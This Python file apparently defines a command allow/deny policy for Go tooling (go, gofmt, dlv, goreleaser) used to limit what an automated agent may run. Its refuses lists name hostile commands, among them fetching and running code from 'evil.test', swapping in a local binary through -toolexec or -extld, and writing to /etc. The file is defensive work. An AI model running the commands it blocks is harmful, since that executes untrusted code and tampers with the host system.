"""Rules for go and the tools of its projects."""

from treadle.policy.commands.project_tools import make_tool_rules
from treadle.policy.commands.rule_syntax import Rule

_BUILD = (
    "-v -x -n -a -race -msan -trimpath -o=write -p=number -tags=text -ldflags=goflags"
    " -gcflags=goflags"
    " -mod=text -buildvcs=text -cover -covermode=text -coverpkg=text -buildmode=text -work -C=chdir"
    " -modcacherw -asan -linkshared -json -pgo=text -modfile=run -asmflags=goflags"
)
_TEST = (
    _BUILD
    + " -run=text -bench=text -benchmem -benchtime=text -count=number -cpu=text -failfast -short"
    " -timeout=text -parallel=number -coverprofile=write -cpuprofile=write -memprofile=write"
    " -blockprofile=write -mutexprofile=write -trace=write -outputdir=write -list=text -skip=text"
    " -shuffle=text -fuzz=text -fuzztime=text -fuzzminimizetime=text -vet=text -c -fullpath"
    " -test.v -test.run=text -test.timeout=text"
)

RULES: tuple[Rule, ...] = (
    Rule(
        "go",
        "-C=chdir",
        style="single",
        subs=(
            Rule(
                "build",
                _BUILD,
                "target...",
                style="single",
                instead="Build packages of the project: go build ./...",
            ),
            Rule(
                "test",
                _TEST,
                "target...",
                style="single",
                instead="Test packages of the project: go test ./...",
            ),
            Rule(
                "run",
                _BUILD,
                "target",
                needs=1,
                stops=True,
                style="single",
                check="go-run",
                instead="Run a package of the project: go run ./cmd/x.",
            ),
            Rule("vet", _BUILD + " -c=number", "target...", style="single"),
            Rule("fmt", "-n -x", "target...", style="single", mode="run"),
            Rule("generate", _BUILD + " -run=text", "target...", style="single", mode="run"),
            Rule(
                "install",
                _BUILD,
                "target...",
                style="single",
                mode="run",
                check="go-local",
                instead="Install packages of the project only.",
            ),
            Rule(
                "get", "-u[text] -t -v -x -d", "text...", style="single", mode="run", check="go-get"
            ),
            Rule(
                "list",
                _BUILD + " -m -f=text -deps -test -e -u -versions -compiled -find -export",
                "text...",
                style="single",
                check="go-words",
            ),
            Rule("doc", "-all -short -src -u -c -cmd", "text...", style="single", check="go-words"),
            Rule("version", "-m -v", "look...", style="single"),
            Rule("env", "-json -changed", "name...", style="single", check="go-env"),
            Rule("clean", "-n -x -cache -testcache -i -r", "target...", style="single", mode="run"),
            Rule("help", "", "name...", style="single"),
            Rule(
                "tool",
                subs=(
                    Rule(
                        "cover", "-func=read -html=read -o=write -mode=text", "read", style="single"
                    ),
                    Rule(
                        "pprof",
                        "-top -text -list=text -cum -flat -nodecount=number",
                        "profile...",
                        style="single",
                    ),
                ),
                instead="Look at a profile: go tool cover -func=c.out.",
            ),
            Rule(
                "mod",
                style="single",
                subs=(
                    Rule(
                        "tidy", "-v -e -x -go=text -compat=text -diff", style="single", mode="run"
                    ),
                    Rule(
                        "download",
                        "-json -x",
                        "text...",
                        style="single",
                        mode="run",
                        check="go-get",
                    ),
                    Rule("verify", style="single"),
                    Rule("graph", "-go=text -x", style="single"),
                    Rule("why", "-m -vendor", "text...", style="single", check="go-get"),
                    Rule("vendor", "-v -e", style="single", mode="run"),
                    Rule("init", "", "text", style="single", mode="run", check="go-get"),
                    Rule(
                        "edit",
                        "-json -print -fmt -go=text -require=text -droprequire=text -module=text",
                        "run",
                        style="single",
                        mode="run",
                    ),
                ),
                instead="Keep go.mod in order: go mod tidy.",
            ),
            Rule(
                "work",
                style="single",
                subs=(
                    Rule("sync", style="single", mode="run"),
                    Rule("use", "-r", "run...", style="single", mode="run"),
                    Rule("init", "", "run...", style="single", mode="run"),
                ),
            ),
        ),
        instead="Build, test and vet packages of the project.",
        allows=(
            "go build ./... && go test ./...",
            'go test -run "TestA|TestB" ./...',
            "go mod tidy",
            "go vet ./...",
            "go run ./cmd/server -port 80",
            "go get github.com/a/b@v1.2.3",
            "go run main.go",
        ),
        refuses=(
            "go vet -vettool=./e ./...",
            "go install evil.test/x@latest",
            "go run evil.test/x@latest",
            "go build -toolexec=./e ./...",
            "go env -w GOFLAGS=x",
            "go test -exec=./e ./...",
            "go bug",
            "go build -o /etc/x .",
            "go generate -ldflags '-extld ./e'",
            "go tool ./e",
            "go run /tmp/e.go",
            "go build -overlay=x .",
            "go build -ldflags=-extld=./e .",
        ),
    ),
    Rule(
        "gofmt",
        "-l -w -s -d -e -r=text",
        "write...",
        style="single",
        stdin=True,
        instead="Format files of the project.",
        allows=("gofmt -w internal/x.go", "gofmt -l ."),
        refuses=("gofmt -w /etc/x", "gofmt -cpuprofile=x y"),
    ),
    Rule(
        "goimports",
        "-l -w -d -e -local=text -v",
        "write...",
        style="single",
        stdin=True,
        instead="Format files of the project.",
        allows=("goimports -w internal/x.go",),
        refuses=("goimports -w /etc/x", "goimports -srcdir=/tmp x"),
    ),
    *make_tool_rules(
        "golangci-lint staticcheck golint gopls govulncheck gotestsum sqlc revive errcheck"
    ),
    Rule(
        "dlv",
        "",
        subs=(Rule("version"),),
        instead="A debugger asks a person. Print, or write a test.",
        allows=("dlv version",),
        refuses=("dlv exec ./x", "dlv attach 1", "dlv debug"),
    ),
    Rule(
        "goreleaser",
        "--version",
        subs=(
            Rule("check", "", ""),
            Rule("release", "--snapshot --clean --skip=text", "", mode="run"),
            Rule("build", "--snapshot --clean --single-target", "", mode="run"),
        ),
        instead="Build with go build; a person releases.",
        allows=("goreleaser check",),
        refuses=("goreleaser release", "goreleaser publish"),
    ),
)
